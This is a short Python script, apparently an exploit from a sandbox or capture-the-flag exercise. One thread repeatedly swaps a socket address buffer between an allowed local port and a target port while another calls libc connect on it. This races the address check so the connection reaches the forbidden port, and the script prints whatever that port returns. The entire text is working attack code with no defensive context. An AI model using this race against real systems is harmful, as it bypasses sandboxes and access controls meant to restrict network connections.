"""Changes an address in memory from a second thread while connect looks at it."""

server = socket.create_server(("127.0.0.1", 0), backlog=4096)
inside, outside = (
    struct.pack("=H", 2) + struct.pack("!H", port) + b"\x7f\0\0\1" + bytes(8)
    for port in (server.getsockname()[1], at.tcp)
)
address = ctypes.create_string_buffer(inside, 16)


def swap():
    ctypes.memmove(address, outside, 16)
    ctypes.memmove(address, inside, 16)


def connect():
    with socket.socket() as way:
        way.settimeout(1)
        libc.connect(way.fileno(), address, 16)
        if way.getpeername()[1] == at.tcp:
            print(way.recv(100).decode())


race(swap, connect, 0.8)
os._exit(0)
